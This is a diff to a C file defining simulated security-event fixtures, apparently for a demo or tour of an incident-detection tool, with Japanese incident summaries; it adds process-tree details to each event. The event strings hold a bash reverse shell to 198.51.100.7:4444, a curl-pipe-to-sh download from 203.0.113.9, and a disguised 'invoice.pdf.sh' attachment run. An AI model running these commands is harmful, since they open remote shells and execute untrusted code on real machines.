@@ -74,10 +74,19 @@ const struct tour_device tour_devices[] = {
 	{ "aoba-shacho", "青葉 太一", 0 },
 };
 
+#define GUID(number) "{00000000-0000-4000-8000-0000000000" number "}"
+#define PROCESS(number, parent)                                                                    \
+	"\"ProcessGuid\":\"" GUID(number) "\",\"ParentProcessGuid\":\"" GUID(parent) "\""
+
 const struct tour_attack tour_attacks[] = {
 	{ "aoba-jimu-1", 52, 11, "process_creation",
-	  "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\","
-	  "\"ParentImage\":\"/usr/bin/bash\",\"User\":\"honda\"",
+	  PROCESS("13", "12") ",\"ProcessId\":4130,\"Image\":\"/usr/bin/bash\","
+	  "\"CommandLine\":\"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\","
+	  "\"ParentImage\":\"/usr/bin/dash\",\"User\":\"honda\"",
+	  { PROCESS("11", "10") ",\"ProcessId\":3988,\"Image\":\"/usr/lib/thunderbird/thunderbird\","
+	    "\"CommandLine\":\"thunderbird\",\"ParentImage\":\"/usr/bin/gnome-shell\",\"User\":\"honda\"",
+	    PROCESS("12", "11") ",\"ProcessId\":4127,\"Image\":\"/usr/bin/dash\",\"CommandLine\":\"sh /tmp/invoice.pdf.sh\","
+	    "\"ParentImage\":\"/usr/lib/thunderbird/thunderbird\",\"User\":\"honda\"" },
 	  "外部から遠隔操作するための接続が作られていました。社内の作業では行わない操作です。",
 	  "状況を説明し、端末の隔離についてご了承をいただきました。添付ファイルを開いた心当たりがあるとのこと。",
 	  "事務用パソコン（aoba-jimu-1）で、メールの添付ファイルをきっかけに、外部から操作するための接続が作られました。"
@@ -85,12 +94,22 @@ const struct tour_attack tour_attacks[] = {
 	  "ほかの端末への広がりと、情報が持ち出された跡は見つかりませんでした。"
 	  "パスワードの変更と、心当たりのない添付ファイルを開かない運用をお願いしました。" },
 	{ "aoba-hinshitsu", 30, 16, "file_event",
-	  "\"Image\":\"/usr/bin/tee\",\"TargetFilename\":\"/etc/cron.d/backup\",\"User\":\"root\"",
+	  "\"ProcessGuid\":\"" GUID("22") "\",\"ProcessId\":2217,\"Image\":\"/usr/bin/tee\","
+	  "\"TargetFilename\":\"/etc/cron.d/backup\",\"User\":\"root\"",
+	  { PROCESS("21", "20") ",\"ProcessId\":2209,\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"-bash\","
+	    "\"ParentImage\":\"/usr/sbin/sshd\",\"User\":\"hoshu\"",
+	    PROCESS("22", "21") ",\"ProcessId\":2217,\"Image\":\"/usr/bin/tee\",\"CommandLine\":\"tee /etc/cron.d/backup\","
+	    "\"ParentImage\":\"/usr/bin/bash\",\"User\":\"root\"" },
 	  NULL, "保守会社の作業であることを確認しました。",
 	  "品質管理のパソコンで定期実行の設定が変わりましたが、お電話で、保守会社による正規の作業と確認できました。対応は不要です。" },
 	{ "aoba-kojo", 0, 7, "process_creation",
-	  "\"Image\":\"/usr/bin/dash\",\"CommandLine\":\"sh -c curl -s http://203.0.113.9/x.sh | sh\","
+	  PROCESS("33", "32") ",\"ProcessId\":5521,\"Image\":\"/usr/bin/dash\","
+	  "\"CommandLine\":\"sh -c curl -s http://203.0.113.9/x.sh | sh\","
 	  "\"ParentImage\":\"/usr/bin/bash\",\"User\":\"ono\"",
+	  { PROCESS("31", "30") ",\"ProcessId\":5310,\"Image\":\"/usr/bin/gnome-terminal\",\"CommandLine\":\"gnome-terminal\","
+	    "\"ParentImage\":\"/usr/bin/gnome-shell\",\"User\":\"ono\"",
+	    PROCESS("32", "31") ",\"ProcessId\":5318,\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash\","
+	    "\"ParentImage\":\"/usr/bin/gnome-terminal\",\"User\":\"ono\"" },
 	  NULL, NULL, NULL },
 };
 const size_t tour_attack_count = sizeof tour_attacks / sizeof *tour_attacks;
